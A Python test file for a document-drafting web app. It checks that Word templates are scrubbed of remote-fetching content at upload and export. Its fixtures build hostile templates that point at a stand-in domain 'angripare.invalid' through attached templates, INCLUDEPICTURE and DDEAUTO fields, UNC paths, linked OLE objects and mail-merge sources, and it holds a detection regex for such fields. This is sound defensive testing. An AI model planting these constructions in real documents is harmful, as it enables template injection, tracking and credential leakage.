"""Templates that make Word fetch remote content: stripped at upload and again at export."""

from __future__ import annotations

import io
import re
import subprocess
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from lxml import etree
from sqlalchemy import select

from drafting.export import pdf
from drafting.export.docx_builder import (
    InvalidTemplate,
    build_final_docx,
    build_review_copy_docx,
    sanitize_template,
)
from drafting.export.remote_content import RemovedKind, strip_remote_content
from drafting.extensions import db as _db
from drafting.models import AuditEvent, Cooperation
from drafting.services import drafting, responses
from tests.conftest import coordinator, login, municipality, official

from .test_docx_builder import comment, final_document, review_copy
from .test_pdf import needs_soffice

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NS = (
    f'xmlns:w="{W}" xmlns:r="{R}"'
    ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
# Every hostile address lives under this domain; the one honest link does not.
HOSTILE = "angripare.invalid"  # a name that never resolves
SAFE_LINK = "https://www.malmo.se/kontakt"
REMOTE_FIELD = re.compile(
    r"\b(INCLUDEPICTURE|INCLUDETEXT|INCLUDE|IMPORT|LINK|DDE|DDEAUTO|DATABASE)\b", re.IGNORECASE
)


# --------------------------------------------------------------------------------------------
# An oracle independent of the code under test


def remote_references(data: bytes) -> list[str]:
    """Everything in a package that Word could fetch by itself, described; [] when clean."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            payload = archive.read(name)
            if HOSTILE.encode() in payload:
                found.append(f"{name}: mentions {HOSTILE}")
            if not name.endswith((".xml", ".rels")):
                continue
            tree = etree.fromstring(payload)
            for rel in tree.iter(f"{{{RELS}}}Relationship"):
                external = rel.get("TargetMode") == "External"
                link = rel.get("Type") == REL_TYPE + "hyperlink"
                if external and not (link and rel.get("Target").startswith(("https:", "http:"))):
                    found.append(f"{name}: {rel.get('Type')} -> {rel.get('Target')}")
            instructions = [el.get(f"{{{W}}}instr", "") for el in tree.iter(f"{{{W}}}fldSimple")]
            instructions += [el.text or "" for el in tree.iter(f"{{{W}}}instrText")]
            found += [f"{name}: field {i}" for i in instructions if REMOTE_FIELD.search(i)]
            for tag in ("attachedTemplate", "altChunk", "subDoc", "mailMerge", "control"):
                found += [f"{name}: {tag}" for _ in tree.iter(f"{{{W}}}{tag}")]
    return found


# --------------------------------------------------------------------------------------------
# Hostile templates, built by editing the package as an attacker (or Word) would


def base_template() -> bytes:
    template = docx.Document()
    template.add_paragraph("MALLTEXT")
    section = template.sections[0]
    section.header.paragraphs[0].text = "SIDHUVUD Kommunförbundet"
    section.footer.paragraphs[0].text = "SIDFOT Storgatan 1"
    out = io.BytesIO()
    template.save(out)
    return out.getvalue()


def rewrite(data: bytes, changes: dict[str, Callable[[bytes | None], bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        names = src.namelist()
        for name in names:
            payload = src.read(name)
            dst.writestr(name, changes[name](payload) if name in changes else payload)
        for name in changes.keys() - set(names):
            dst.writestr(name, changes[name](None))
    return out.getvalue()


def with_rels(*rels: tuple[str, str, str, bool]) -> Callable[[bytes | None], bytes]:
    """Add (id, type, target, external) relationships to a .rels part, creating it if needed."""

    def change(payload: bytes | None) -> bytes:
        text = (payload or f'<Relationships xmlns="{RELS}"></Relationships>'.encode()).decode()
        added = "".join(
            f'<Relationship Id="{rid}" Type="{REL_TYPE}{kind}" Target="{target}"'
            + (' TargetMode="External"' if external else "")
            + "/>"
            for rid, kind, target, external in rels
        )
        return text.replace("</Relationships>", added + "</Relationships>").encode()

    return change


def inserting(before: str, xml: str) -> Callable[[bytes | None], bytes]:
    def change(payload: bytes | None) -> bytes:
        assert payload is not None and before.encode() in payload
        return payload.replace(before.encode(), xml.encode() + before.encode(), 1)

    return change


def complex_field(instruction: str, result: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


LINKED_PICTURE = (
    "<w:r><w:drawing><wp:inline><wp:extent cx='914400' cy='457200'/><wp:docPr id='7' name='Logo'/>"
    "<a:graphic><a:graphicData uri='http://schemas.openxmlformats.org/drawingml/2006/picture'>"
    "<pic:pic><pic:nvPicPr><pic:cNvPr id='7' name='logo.png'/><pic:cNvPicPr/></pic:nvPicPr>"
    "<pic:blipFill><a:blip r:link='rIdLogo'/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
    "<pic:spPr><a:xfrm><a:off x='0' y='0'/><a:ext cx='914400' cy='457200'/></a:xfrm>"
    "<a:prstGeom prst='rect'><a:avLst/></a:prstGeom></pic:spPr></pic:pic>"
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
)


def hostile_template() -> bytes:
    """Every way a template can make Word fetch something, in settings, header and footer."""
    picture_field = complex_field(f' INCLUDEPICTURE "http://logo.{HOSTILE}/a.png" \\d ', "LOGO")
    link_field = complex_field(f'LINK Excel.Sheet.8 "https://data.{HOSTILE}/b.xls" A1', "TAL")
    header_xml = (
        f"<w:p {NS}>{picture_field}</w:p>"
        f"<w:p {NS}>{LINKED_PICTURE}</w:p>"
        f"<w:p {NS}><w:pict><v:shape style='width:20pt;height:20pt'>"
        f"<v:imagedata r:id='rIdVml' o:title=''/></v:shape></w:pict></w:p>"
        f"<w:p {NS}><w:hyperlink r:id='rIdSafe'><w:r><w:t>Kontakt</w:t></w:r></w:hyperlink>"
        f"<w:hyperlink r:id='rIdShare'><w:r><w:t>Mallarkiv</w:t></w:r></w:hyperlink></w:p>"
    )
    footer_xml = (
        f"<w:p {NS}><w:fldSimple w:instr=' INCLUDETEXT \"https://text.{HOSTILE}/t.docx\" '>"
        "<w:r><w:t>INKLUDERAD</w:t></w:r></w:fldSimple></w:p>"
        f"<w:p {NS}>{link_field}{complex_field(' PAGE ', '1')}</w:p>"
    )
    settings_xml = "<w:attachedTemplate r:id='rIdTpl'/><w:linkStyles/>"
    return rewrite(
        base_template(),
        {
            "word/settings.xml": inserting("<w:defaultTabStop", settings_xml),
            "word/_rels/settings.xml.rels": with_rels(
                ("rIdTpl", "attachedTemplate", f"https://mallar.{HOSTILE}/kommun.dotx", True)
            ),
            "word/header1.xml": inserting("</w:hdr>", header_xml),
            "word/_rels/header1.xml.rels": with_rels(
                ("rIdLogo", "image", f"http://logo.{HOSTILE}/logo.png", True),
                ("rIdVml", "image", f"\\\\filer.{HOSTILE}\\mallar\\logo.png", True),
                ("rIdSafe", "hyperlink", SAFE_LINK, True),
                ("rIdShare", "hyperlink", f"file://filer.{HOSTILE}/mallar/", True),
            ),
            "word/footer1.xml": inserting("</w:ftr>", footer_xml),
        },
    )


def header_and_footer_text(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    section = document.sections[0]
    return "\n".join(p.text for part in (section.header, section.footer) for p in part.paragraphs)


# --------------------------------------------------------------------------------------------
# The scrubber


def test_the_hostile_template_really_is_hostile():
    found = "\n".join(remote_references(hostile_template()))
    for expected in ("attachedTemplate", "INCLUDEPICTURE", "INCLUDETEXT", "LINK Excel", "image"):
        assert expected in found
    sanitize_template(hostile_template())  # still a template python-docx can read


def test_every_remote_reference_is_stripped_and_the_rest_kept():
    scrubbed = strip_remote_content(hostile_template())
    assert remote_references(scrubbed.data) == []
    kinds = {(item.kind, item.detail) for item in scrubbed.removed}
    assert (RemovedKind.ATTACHED_TEMPLATE, f"https://mallar.{HOSTILE}/kommun.dotx") in kinds
    assert (RemovedKind.LINKED_IMAGE, f"http://logo.{HOSTILE}/logo.png") in kinds
    assert (RemovedKind.FIELD, f"INCLUDEPICTURE http://logo.{HOSTILE}/a.png") in kinds
    assert (RemovedKind.FIELD, f"INCLUDETEXT https://text.{HOSTILE}/t.docx") in kinds
    assert (RemovedKind.UNSAFE_LINK, f"file://filer.{HOSTILE}/mallar/") in kinds
    text = header_and_footer_text(scrubbed.data)
    # Field results stay as plain text; link texts stay; the page number field stays a field.
    for kept in ("SIDHUVUD", "LOGO", "Kontakt", "Mallarkiv", "SIDFOT", "INKLUDERAD", "TAL"):
        assert kept in text
    with zipfile.ZipFile(io.BytesIO(scrubbed.data)) as archive:
        footer = archive.read("word/footer1.xml").decode()
        rels = archive.read("word/_rels/header1.xml.rels").decode()
        header = archive.read("word/header1.xml").decode()
    assert " PAGE " in footer and SAFE_LINK in rels
    # The pictures whose only source was remote are gone, not left as broken frames.
    assert "<w:drawing" not in header and "v:imagedata" not in header


def test_a_clean_template_comes_back_byte_for_byte():
    data = base_template()
    scrubbed = strip_remote_content(data)
    assert scrubbed.data is data and scrubbed.removed == ()


def _story(paragraphs: str) -> bytes:
    return rewrite(base_template(), {"word/header1.xml": inserting("</w:hdr>", paragraphs)})


@pytest.mark.parametrize(
    "paragraphs",
    [
        # lower case, leading spaces, no separate part
        f'<w:p {NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>  '
        f'includepicture "http://x.{HOSTILE}/a.png"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        # the instruction split over several runs, the result over two paragraphs
        f'<w:p {NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE'
        f'</w:instrText></w:r><w:r><w:instrText>TEXT "//t.{HOSTILE}/x"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>A</w:t></w:r></w:p>'
        f'<w:p {NS}><w:r><w:t>B</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        # a remote field nested in the code of a harmless one
        f"<w:p {NS}>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
        + complex_field(f' INCLUDETEXT "http://n.{HOSTILE}/n.docx" ', "inre")
        + '<w:r><w:instrText>" "" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>yttre</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        # a field whose name is built by a nested field cannot be checked: it goes
        f"<w:p {NS}>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + complex_field(' QUOTE "INCLUDEPICTURE" ', "INCLUDEPICTURE")
        + f'<w:r><w:instrText> "http://q.{HOSTILE}/q.png" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Q</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        # a field that never ends
        f'<w:p {NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText>DDEAUTO "c:\\\\x.{HOSTILE}" "y"</w:instrText></w:r></w:p>',
        # a field in a text box
        f"<w:p {NS}><w:r><w:pict><v:shape><v:textbox><w:txbxContent><w:p>"
        + complex_field(f' INCLUDEPICTURE "http://box.{HOSTILE}/b.png" ', "ruta")
        + "</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
    ],
    ids=["lower-case", "split", "nested", "opaque", "unterminated", "text-box"],
)
def test_remote_fields_are_removed_however_they_are_written(paragraphs):
    data = _story(paragraphs)
    assert remote_references(data)
    scrubbed = strip_remote_content(data)
    assert remote_references(scrubbed.data) == []
    assert any(item.kind is RemovedKind.FIELD for item in scrubbed.removed)
    docx.Document(io.BytesIO(scrubbed.data))  # still readable
    with zipfile.ZipFile(io.BytesIO(scrubbed.data)) as archive:
        header = etree.fromstring(archive.read("word/header1.xml"))
    # Every field left is whole: as many begins as ends.
    kinds = [el.get(f"{{{W}}}fldCharType") for el in header.iter(f"{{{W}}}fldChar")]
    assert kinds.count("begin") == kinds.count("end")


def test_harmless_fields_and_links_are_kept():
    link = complex_field(' HYPERLINK "https://www.lund.se/link" ', "Lund")
    paragraphs = f"<w:p {NS}>{complex_field(' PAGE ', '1')}{link}</w:p>"
    data = _story(paragraphs)
    scrubbed = strip_remote_content(data)
    assert scrubbed.removed == () and scrubbed.data is data


@pytest.mark.parametrize(
    ("part", "anchor", "xml", "rel"),
    [
        (
            "word/document.xml",
            "<w:sectPr",
            "<w:p><w:subDoc r:id='rIdSub'/></w:p>",
            ("rIdSub", "subDocument", f"file://filer.{HOSTILE}/del.docx", True),
        ),
        (
            "word/document.xml",
            "<w:sectPr",
            "<w:altChunk r:id='rIdChunk'/>",
            ("rIdChunk", "aFChunk", "chunk.htm", False),
        ),
        (
            "word/webSettings.xml",
            "</w:webSettings>",
            "<w:frameset><w:frame><w:sourceFileName r:id='rIdF'/></w:frame></w:frameset>",
            ("rIdF", "frame", f"http://f.{HOSTILE}/f.htm", True),
        ),
        (
            "word/settings.xml",
            "<w:defaultTabStop",
            "<w:mailMerge><w:mainDocumentType w:val='formLetters'/>"
            f"<w:connectString w:val='Provider=SQLOLEDB;Server=db.{HOSTILE}'/>"
            "<w:dataSource r:id='rIdDs'/></w:mailMerge>",
            ("rIdDs", "mailMergeSource", f"file://db.{HOSTILE}/k.mdb", True),
        ),
        (
            "word/document.xml",
            "<w:sectPr",
            f"<w:p {NS}><w:r><w:object><v:shape id='s1' style='width:9pt;height:9pt'/>"
            "<o:OLEObject Type='Link' ProgID='Excel.Sheet.12' ShapeID='s1' r:id='rIdOle'"
            " UpdateMode='Always'/></w:object></w:r></w:p>",
            ("rIdOle", "oleObject", f"https://data.{HOSTILE}/budget.xlsx", True),
        ),
    ],
    ids=["sub-document", "alt-chunk", "frameset", "mail-merge", "linked-object"],
)
def test_other_remote_and_active_content_is_removed(part, anchor, xml, rel):
    rels_name = part.replace("word/", "word/_rels/") + ".rels"
    data = rewrite(base_template(), {part: inserting(anchor, xml), rels_name: with_rels(rel)})
    assert remote_references(data)
    scrubbed = strip_remote_content(data)
    assert scrubbed.removed
    assert remote_references(scrubbed.data) == []
    with zipfile.ZipFile(io.BytesIO(scrubbed.data)) as archive:
        assert rel[0] not in archive.read(rels_name).decode()
        assert rel[0] not in archive.read(part).decode()


def test_a_broken_part_is_refused_in_swedish():
    # python-docx never parses custom XML, so only the scrubber notices.
    data = rewrite(base_template(), {"customXml/item1.xml": lambda payload: b"<b:Sources"})
    with pytest.raises(InvalidTemplate, match="skadad del \\(customXml/item1.xml\\)"):
        sanitize_template(data)


# --------------------------------------------------------------------------------------------
# Export: a template stored before the fix is scrubbed again


@pytest.mark.parametrize("kind", ["final", "review"])
def test_export_with_a_hostile_template_loads_nothing_remote(kind):
    if kind == "final":
        exported = build_final_docx(final_document(), template=hostile_template())
    else:
        copy = review_copy([comment(0, "förslaget")])
        exported = build_review_copy_docx(copy, template=hostile_template())
    assert remote_references(exported) == []
    text = header_and_footer_text(exported)
    assert "SIDHUVUD" in text and "Kontakt" in text
    # The body's own links are kept (they are only followed on a click).
    targets = [rel.target_ref for rel in docx.Document(io.BytesIO(exported)).part.rels.values()]
    assert "https://www.regeringen.se/plan" in targets


# --------------------------------------------------------------------------------------------
# Through the admin page and the export routes


def _published(demo):
    pair = ["Malmö", "Lund"]
    responses.invite(demo, coordinator(), [municipality(n).id for n in pair])
    for name in pair:
        responses.answer_invitation(demo, official(name), join=True)
    drafting.publish_version(demo, coordinator(), "")


def _exports(client, demo) -> dict[str, bytes]:
    out = {}
    for name, path in (("final", "final.docx"), ("review", "versions/1/review-copy.docx")):
        response = client.get(f"/responses/{demo.id}/export/{path}")
        assert response.status_code == 200, name
        out[name] = response.data
    return out


def test_upload_strips_remote_content_with_a_notice_and_exports_stay_clean(app, db, demo):
    db.session.commit()
    client = app.test_client()
    login(client, "admin@example.se")
    page = client.post(
        f"/admin/cooperations/{demo.cooperation_id}/template",
        data={"template": (io.BytesIO(hostile_template()), "mall.docx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "Word-mallen är uppladdad" in html
    assert f"https://mallar.{HOSTILE}/kommun.dotx" in html and "INCLUDEPICTURE" in html
    stored = db.session.scalar(select(Cooperation.word_template))
    assert remote_references(stored) == []
    event = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "word_template_uploaded")
    ).one()
    assert any("INCLUDETEXT" in item for item in event.details["removed"])
    _published(demo)
    db.session.commit()
    login(client, "koordinator@example.se")
    for name, data in _exports(client, demo).items():
        assert remote_references(data) == [], name
        assert "SIDHUVUD" in header_and_footer_text(data), name


def test_a_clean_upload_has_no_notice(app, db, demo):
    db.session.commit()
    client = app.test_client()
    login(client, "admin@example.se")
    clean = base_template()
    page = client.post(
        f"/admin/cooperations/{demo.cooperation_id}/template",
        data={"template": (io.BytesIO(clean), "mall.docx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert "Word-mallen är uppladdad" in page.get_data(as_text=True)
    assert "andra adresser" not in page.get_data(as_text=True)
    assert db.session.scalar(select(Cooperation.word_template)) == clean


def test_a_template_stored_before_the_fix_is_scrubbed_at_export(app, db, demo):
    cooperation = _db.session.get(Cooperation, demo.cooperation_id)
    cooperation.word_template = hostile_template()  # as an old upload left it
    cooperation.word_template_name = "gammal.docx"
    _published(demo)
    db.session.commit()
    client = app.test_client()
    login(client, "koordinator@example.se")
    for name, data in _exports(client, demo).items():
        assert remote_references(data) == [], name


# A letterhead as LibreOffice users make it: a picture linked (not embedded) from the intranet.
LIBREOFFICE_TEMPLATE = f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
 xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
 xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"
 xmlns:xlink="http://www.w3.org/1999/xlink"
 office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
 <office:automatic-styles><style:page-layout style:name="pm1">
  <style:page-layout-properties fo:page-width="21cm" fo:page-height="29.7cm"/><style:header-style/>
 </style:page-layout></office:automatic-styles>
 <office:master-styles><style:master-page style:name="Standard" style:page-layout-name="pm1">
  <style:header>
   <text:p>LO-SIDHUVUD <draw:frame draw:name="Logo" text:anchor-type="as-char" svg:width="2cm"
    svg:height="1cm"><draw:image xlink:href="http://intranat.{HOSTILE}/logo.png" xlink:type="simple"
    xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>
   <text:p><text:a xlink:type="simple" xlink:href="https://www.lund.se/">Lunds kommun</text:a></text:p>
  </style:header>
 </style:master-page></office:master-styles>
 <office:body><office:text><text:p>MALLTEXT</text:p></office:text></office:body>
</office:document>
"""


def libreoffice_docx(source: str) -> bytes:
    """Save a flat ODF text as .docx with LibreOffice (holding a conversion slot)."""
    with tempfile.TemporaryDirectory() as tmp, pdf.conversion_slot(wait=900):
        work = Path(tmp)
        (work / "mall.fodt").write_text(source, encoding="utf-8")
        subprocess.run(
            [
                pdf.soffice_path(),
                "--headless",
                "--norestore",
                "--nologo",
                f"-env:UserInstallation={(work / 'profile').as_uri()}",
                "--convert-to",
                "docx:MS Word 2007 XML",
                "--outdir",
                tmp,
                str(work / "mall.fodt"),
            ],
            cwd=tmp,
            env={"HOME": tmp, "PATH": "/usr/bin:/bin"},
            capture_output=True,
            timeout=240,
            check=True,
        )
        return (work / "mall.docx").read_bytes()


@needs_soffice
def test_a_libreoffice_template_with_a_linked_logo_is_cleaned(app, db, demo):
    made = libreoffice_docx(LIBREOFFICE_TEMPLATE)
    assert any("image" in item for item in remote_references(made))
    db.session.commit()
    client = app.test_client()
    login(client, "admin@example.se")
    page = client.post(
        f"/admin/cooperations/{demo.cooperation_id}/template",
        data={"template": (io.BytesIO(made), "lo-mall.docx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert f"http://intranat.{HOSTILE}/logo.png" in page.get_data(as_text=True)
    assert remote_references(db.session.scalar(select(Cooperation.word_template))) == []
    _published(demo)
    db.session.commit()
    login(client, "koordinator@example.se")
    for name, data in _exports(client, demo).items():
        assert remote_references(data) == [], name
        text = header_and_footer_text(data)
        assert "LO-SIDHUVUD" in text and "Lunds kommun" in text, name


def test_a_template_with_hundreds_of_links_gets_a_short_notice(app, db, demo):
    pictures = "".join(
        f"<w:p {NS}>{LINKED_PICTURE.replace('rIdLogo', f'rIdP{i}')}</w:p>" for i in range(300)
    )
    rels = [
        (f"rIdP{i}", "image", f"http://p{i}.{HOSTILE}/{'x' * 150}.png", True) for i in range(300)
    ]
    data = rewrite(
        base_template(),
        {
            "word/header1.xml": inserting("</w:hdr>", pictures),
            "word/_rels/header1.xml.rels": with_rels(*rels),
        },
    )
    db.session.commit()
    client = app.test_client()
    login(client, "admin@example.se")
    page = client.post(
        f"/admin/cooperations/{demo.cooperation_id}/template",
        data={"template": (io.BytesIO(data), "mall.docx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "och 295 till" in html  # the session cookie stays small
    assert remote_references(db.session.scalar(select(Cooperation.word_template))) == []
